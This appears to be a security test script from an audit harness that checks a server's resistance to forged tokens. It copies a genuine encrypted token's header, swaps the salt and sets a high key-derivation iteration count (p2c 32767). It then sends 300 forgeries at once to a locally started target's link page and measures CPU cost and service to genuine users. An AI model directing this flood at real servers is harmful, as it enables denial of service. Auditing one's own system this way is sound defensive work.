/**
 * Forged tokens (issue 11, finding 1): 300 ciphers at once from one address, each with a valid
 * header naming the server's key and p2c 32767 but another salt (no key opens them), against the
 * long-link page, with the default failed-opening budget (30 a minute). Meanwhile a genuine guest
 * opens its own link page and an issuing call runs. Only HTTP and the CLI of ATTACK_ROOT.
 */
import { randomBytes } from 'node:crypto';
import { measureWhile, report, startTarget, tally } from './harness.js';

const AUDIENCE = 'a4d886b0-979f-4e2c-a958-3e8c14605e51';
const target = await startTarget();
try {
  const issue = async (sub: string, extra: Record<string, unknown> = {}) => {
    const res = await fetch(`${target.url}/api/v2/joseencrypt`, {
      method: 'POST',
      headers: { authorization: `Bearer ${target.key}`, 'content-type': 'application/json' },
      body: JSON.stringify({ aud: AUDIENCE, jwt: { sub }, numGuest: 1, numHost: 0, ...extra }),
    });
    if (res.status !== 200) throw new Error(`issuing failed: ${res.status} ${await res.text()}`);
    return (await res.json()) as { guest: Array<{ cipher: string }> };
  };
  const made = await issue('attack-genuine', { iterations: 32767 });
  const genuine = made.guest[0]!.cipher;
  // The attacker holds any one link (its own): it copies the header, changes the salt.
  const [head, ...rest] = genuine.split('.');
  const forge = () => {
    const header = JSON.parse(Buffer.from(head!, 'base64url').toString('utf8'));
    header.p2s = randomBytes(16).toString('base64url');
    header.p2c = 32767;
    return [Buffer.from(JSON.stringify(header)).toString('base64url'), ...rest].join('.');
  };
  const page = (cipher: string) =>
    fetch(`${target.url}/hc/v1/talk?int=jose&v=1&data=${cipher}`, { headers: { accept: 'text/html' } });
  const cpu0 = target.cpuSeconds();
  const statuses: Array<number | 'error'> = [];
  const attack = Promise.all(
    Array.from({ length: 300 }, async () => {
      try {
        const res = await page(forge());
        await res.arrayBuffer();
        statuses.push(res.status);
      } catch {
        statuses.push('error');
      }
    }),
  );
  const [guestPage, issuing] = await Promise.all([
    measureWhile(() => page(genuine), attack, { everyMs: 100 }),
    measureWhile(
      () =>
        fetch(`${target.url}/api/v2/joseencrypt`, {
          method: 'POST',
          headers: { authorization: `Bearer ${target.key}`, 'content-type': 'application/json' },
          body: JSON.stringify({ aud: AUDIENCE, jwt: { sub: `issue-${Math.random()}` }, iterations: 32767 }),
        }),
      attack,
      { everyMs: 100 },
    ),
  ]);
  report({
    attack: 'forged-tokens',
    load: '300 forged ciphers (p2c 32767, our kid, another salt) at once from one address, budget 30/min',
    genuine: { 'guest page': guestPage, issuing },
    serverCpuSeconds: target.cpuSeconds() - cpu0,
    refusals: tally(statuses),
  });
} finally {
  await target.stop();
}
